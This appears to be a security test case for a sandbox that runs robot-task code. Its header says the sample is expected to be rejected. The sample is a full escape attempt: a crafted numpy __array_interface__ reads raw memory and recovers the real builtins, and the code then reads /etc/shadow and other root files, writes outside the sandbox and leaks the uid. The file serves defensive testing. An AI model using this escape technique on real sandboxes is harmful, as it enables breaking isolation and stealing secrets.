# class: escape: raw memory (a stand-in instance with a crafted __array_interface__, id() addresses) -> the real builtins -> read a root-only file, write outside, os.getuid into the verdict | stopped by: AST check (no id: an address is the first step); behind it the runtime (type() of a stand-in refused; numpy_guard takes no crafted object) and OS isolation (uid nobody, read-only root)
# mode: task
# expect: rejected
# reject: name 'id' is not available to task code
import numpy as np
from cliport.tasks.task import Task
from cliport.utils import utils


def peek(addr, n):
    """n machine words at addr: a stand-in instance (its class from type(np)) with a crafted
    __array_interface__ is read by numpy as an array over any address."""
    RO = type(np)
    fake = RO("mem", {"__array_interface__": {"data": (addr, False), "shape": (n,), "typestr": "<u8", "version": 3}})
    return np.asarray(fake)


def obj_at(addr):
    box = [None]
    cell = peek(int(peek(id(box) + 24, 1)[0]), 1)  # the list's ob_item
    cell[0] = addr
    return box[0]


def real_builtins():
    # CPython 3.11 PyFunctionObject: refcnt, type, func_globals; a stand-in closure's globals are a real module's
    return obj_at(int(peek(id(utils.get_colors) + 16, 1)[0]))["__builtins__"]



class Leak(Task):
    def __init__(self):
        super().__init__()
        self.lang_template = "put the block in the corner"

    def reset(self, env):
        super().reset(env)
        b = real_builtins()
        leaked = ""
        for path in ("/etc/shadow", "/root/.bashrc", "/proc/1/environ"):
            try:
                leaked += b["open"](path).read()[:60]
            except Exception as e:
                leaked += str(e)[:50] + " "
        for path in ("/tmp/PWNED_write", "/dev/shm/PWNED_write"):
            try:
                b["open"](path, "w").write("escaped")
            except Exception as e:
                leaked += str(e)[:50] + " "
        raise ValueError("leaked: " + leaked + " uid=" + str(b["__import__"]("os").getuid()))
